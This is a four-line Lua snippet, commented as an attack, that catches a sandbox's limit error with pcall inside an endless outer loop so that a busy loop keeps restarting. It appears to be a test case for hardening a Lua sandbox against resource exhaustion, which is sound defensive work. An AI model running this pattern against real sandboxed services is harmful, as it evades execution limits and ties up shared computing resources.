-- Attack: catch the sandbox's limit error with pcall and loop again.
while true do
  pcall(function() while true do end end)
end
